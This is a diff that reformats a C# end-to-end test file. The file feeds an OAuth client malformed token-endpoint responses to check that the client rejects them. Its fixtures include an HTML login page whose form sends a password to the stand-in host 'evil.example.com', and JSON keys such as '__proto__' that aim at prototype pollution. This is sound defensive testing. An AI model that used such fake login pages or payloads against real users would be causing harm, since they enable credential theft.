@@ -5,7 +5,10 @@ using static Ccaas.EndToEnd.Tests.Attacks.Responses;
 
 namespace Ccaas.EndToEnd.Tests.Attacks;
 
-/// <summary>Success with a body that is no token response (RFC 6749 §5.1, RFC 8259), or only just one. What is malformed is not asked for again.</summary>
+/// <summary>
+/// Success with a body that is no token response (RFC 6749 §5.1, RFC 8259), or only just one. What is malformed is not asked for
+/// again.
+/// </summary>
 public sealed class BodyTests : AttackTests
 {
     private const int Limit = 1024 * 1024;
@@ -35,8 +38,10 @@ public sealed class BodyTests : AttackTests
         Malformed("a form", Json($"access_token={Canary.Token.Value}&token_type=bearer")),
         Malformed("the token alone", Json(Canary.Token.Value)),
         Malformed("XML", Json($"<token>{Canary.Token.Value}</token>")),
-        Malformed("a login page", Status("200 OK", "Content-Type: text/html\r\n", "<!doctype html><form action=\"http://evil.example.com\"><input name=password></form>")),
-        Malformed("a page that names the token", Status("200 OK", "Content-Type: text/html\r\n", $"<script>token='{Canary.Token.Value}'</script>")),
+        Malformed("a login page", Status("200 OK", "Content-Type: text/html\r\n", "<!doctype html><form "
+            + "action=\"http://evil.example.com\"><input name=password></form>")),
+        Malformed("a page that names the token",
+            Status("200 OK", "Content-Type: text/html\r\n", $"<script>token='{Canary.Token.Value}'</script>")),
         Malformed("NaN", Json(BodyWith("\"x\":NaN"))),
         Malformed("a number with a zero before it", Json(BodyWith("\"x\":01"))),
         Malformed("a bare LF within a text", Json(BodyWith("\"x\":\"a\nb\""))),
@@ -53,7 +58,9 @@ public sealed class BodyTests : AttackTests
         new("a key that is empty", 0, Json(BodyWith("\"\":\"\""))),
         new("20,000 fields", 0, Json(BodyWith(string.Join(',', Enumerable.Range(0, 20_000).Select(i => $"\"field{i}\":{i}"))))),
         new("keys that mean something to JavaScript", 0, Json(BodyWith("\"__proto__\":{\"x\":1},\"constructor\":1"))),
-        new("every letter of the token escaped", 0, Json(Body.Replace(Canary.Token.Value, string.Concat(Canary.Token.Value.Select(letter => $"\\u{(int)letter:x4}")), StringComparison.Ordinal))),
+        new("every letter of the token escaped", 0,
+            Json(Body.Replace(Canary.Token.Value, string.Concat(Canary.Token.Value.Select(letter => $"\\u{(int)letter:x4}")),
+            StringComparison.Ordinal))),
 
         Malformed("a byte order mark", Bytes([.. Encoding.UTF8.GetPreamble(), .. Encoding.UTF8.GetBytes(Body)])),
         Malformed("UTF-16, little end first", Bytes(Encoding.Unicode.GetBytes(Body))),
